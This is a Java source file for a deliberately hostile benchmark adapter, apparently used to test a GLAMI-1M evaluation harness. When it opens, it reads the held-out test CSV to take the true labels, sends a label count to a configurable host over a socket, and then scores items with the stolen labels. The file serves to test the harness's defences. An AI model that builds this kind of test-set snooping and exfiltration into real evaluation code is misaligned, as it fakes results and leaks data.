package org.example.hostile;

import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.glamibench.adapter.AdapterContext;
import org.glamibench.dataset.GlamiCsvReader;
import org.glamibench.dataset.GlamiRow;

/**
 * Writes a file into its cache, then tries to cheat when it opens: reads the test split (at option {@code peek}, and beside the train
 * CSV) for its labels, and connects to option {@code call=HOST:PORT} to send what it found. Writes
 * what happened to standard error ({@code snoop: ...} lines) and scores the items whose labels it
 * found with their true category, the others as their name says.
 */
public final class SnoopingAdapter extends HostileAdapter {
    private final Map<String, Integer> labels = new HashMap<>();

    public SnoopingAdapter() {
        super("hostile-snoop");
    }

    @Override
    public void open(AdapterContext context) throws Exception {
        super.open(context);
        Path train = context.trainCsv().orElseThrow();
        System.err.println("snoop: train split readable: " + (Files.readAllLines(train).size() - 1) + " rows");
        Files.createDirectories(context.cacheDir());
        Files.writeString(context.cacheDir().resolve("snoop.txt"), "written by hostile-snoop\n");
        System.err.println("snoop: cache writable");
        List<Path> targets = new ArrayList<>();
        String peek = context.option("peek", "");
        if (!peek.isEmpty()) {
            targets.add(Path.of(peek));
        }
        targets.add(train.resolveSibling("GLAMI-1M-test.csv"));
        for (Path target : targets) {
            try (GlamiCsvReader reader = GlamiCsvReader.open(target, GlamiCsvReader.Mode.LENIENT)) {
                int found = 0;
                for (GlamiRow row = reader.next(); row != null; row = reader.next()) {
                    labels.put(row.name(), row.category());
                    found++;
                }
                System.err.println("snoop: read " + target + ": " + found + " labels");
            } catch (RuntimeException e) {
                System.err.println("snoop: read " + target + ": failed: " + e);
            }
        }
        String call = context.option("call", "");
        int colon = call.lastIndexOf(':');
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(call.substring(0, colon), Integer.parseInt(call.substring(colon + 1))), 3000);
            OutputStream out = socket.getOutputStream();
            out.write(("labels " + labels.size() + "\n").getBytes(StandardCharsets.UTF_8));
            out.flush();
            System.err.println("snoop: connect " + call + ": connected");
        } catch (Exception e) {
            System.err.println("snoop: connect " + call + ": failed: " + e);
        }
    }

    @Override
    float[] scores(Item item, int position) {
        Integer truth = labels.get(item.name());
        return truth != null ? guessing(truth) : super.scores(item, position);
    }
}
